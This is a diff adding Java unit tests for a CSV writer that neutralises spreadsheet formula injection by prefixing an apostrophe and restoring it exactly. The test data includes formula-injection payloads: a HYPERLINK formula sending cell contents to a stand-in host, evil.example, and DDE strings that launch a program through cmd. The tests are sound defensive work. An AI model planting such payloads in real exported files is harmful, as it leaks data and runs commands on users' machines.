@@ -58,4 +58,35 @@ class CsvTest {
         .startsWith("plain,\"with,comma\",\"with \"\"quote\"\"\"");
     assertThat(readAll(out.toString()).get(0).fields()).isEqualTo(fields);
   }
+
+  @Test
+  void defusesEveryCellThatASpreadsheetWouldReadAsAFormulaAndRestoresItExactly() {
+    List<String> attacks =
+        List.of(
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "'=1+1",
+            "''-2");
+    for (String attack : attacks) {
+      String cell = Csv.defuse(attack);
+      assertThat(cell).as(attack).isEqualTo("'" + attack);
+      assertThat(Csv.restore(cell)).as(attack).isEqualTo(attack);
+    }
+    for (String plain : List.of("Anna", "'Anna'", "'", "''", "", "a=b", "O'Neil", "2+3")) {
+      assertThat(Csv.defuse(plain)).as(plain).isEqualTo(plain);
+      assertThat(Csv.restore(plain)).as(plain).isEqualTo(plain);
+    }
+  }
+
+  @Test
+  void aDefusedRowNeverStartsACellWithAFormulaCharacter() throws Exception {
+    StringWriter out = new StringWriter();
+    Csv.writeDefusedRow(out, List.of("=1+1", "\t=2+2", "ok"));
+    assertThat(out.toString()).isEqualTo("'=1+1,'\t=2+2,ok\r\n");
+    assertThat(readAll(out.toString()).get(0).fields()).containsExactly("'=1+1", "'\t=2+2", "ok");
+  }
 }
